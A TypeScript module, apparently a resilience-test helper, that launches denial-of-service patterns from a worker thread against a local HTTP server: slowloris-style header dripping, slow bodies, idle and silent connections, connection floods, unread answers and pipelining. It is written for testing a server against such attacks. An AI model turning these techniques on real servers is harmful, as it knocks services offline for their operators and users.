import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { parentPort, Worker, workerData } from 'node:worker_threads';

/** Ways in which a client may try to keep others out. Each goes on until it is stopped. */
export const ATTACKS = {
  'slow heads': '1,010 sockets that send a byte of their head now and then',
  'slow bodies': '300 sockets that send a body of a megabyte byte by byte',
  'idle connections': '300 connections that asked once and stay',
  'silent connections': '300 connections that never say anything',
  'new connections': 'a flood of connections, as fast as one core can open them',
  'unread answers': '20 connections that ask for much and read nothing',
  pipelining: '20 connections that send requests without waiting for answers',
} as const;
export type Attack = keyof typeof ATTACKS;

interface Order {
  attack: Attack;
  port: number;
  from: string;
}

/** Starts an attack in a separate thread. Resolves when it is under way. */
export async function startAttack(attack: Attack, port: number, from = '127.0.0.1'): Promise<() => Promise<void>> {
  const order: Order = { attack, port, from };
  const worker = new Worker(new URL(import.meta.url), { workerData: { attacker: order } });
  await new Promise((resolve, reject) => worker.once('message', resolve).once('error', reject));
  return async () => void (await worker.terminate());
}

const HEAD = 'GET /api/v1/search?q=editor&limit=100 HTTP/1.1\r\nHost: a\r\n';

async function run({ attack, port, from }: Order): Promise<void> {
  const sockets = new Set<Socket>();
  const open = (bytes: string) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: from });
    sockets.add(socket);
    socket.on('error', () => {}).on('close', () => sockets.delete(socket));
    if (bytes !== '') socket.write(bytes);
    return socket;
  };
  /** Keeps so many sockets open, and sends a byte on each of them now and then. */
  const keep = async (count: number, bytes: string, drip = '', read = true) => {
    for (let round = 0; ; round++) {
      while (sockets.size < count) open(bytes)[read ? 'resume' : 'pause']();
      if (round === 1) parentPort!.postMessage('under way');
      await pause(200);
      if (drip !== '') for (const socket of sockets) if (socket.writable) socket.write(drip);
    }
  };
  switch (attack) {
    case 'slow heads':
      return keep(1010, 'G', 'E');
    case 'slow bodies':
      return keep(300, 'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n', 'x');
    case 'idle connections':
      return keep(300, `${HEAD}\r\n`);
    case 'silent connections':
      return keep(300, '');
    case 'unread answers':
      return keep(20, `${HEAD}\r\n`.repeat(50), '', false);
    case 'pipelining':
      return keep(20, `${HEAD}\r\n`.repeat(2000));
    case 'new connections':
      parentPort!.postMessage('under way');
      for (;;) {
        for (let n = 0; n < 50; n++) open('');
        for (const socket of [...sockets].slice(0, Math.max(0, sockets.size - 1500))) socket.destroy();
        await pause(1);
      }
  }
}

if (workerData?.attacker) await run(workerData.attacker);
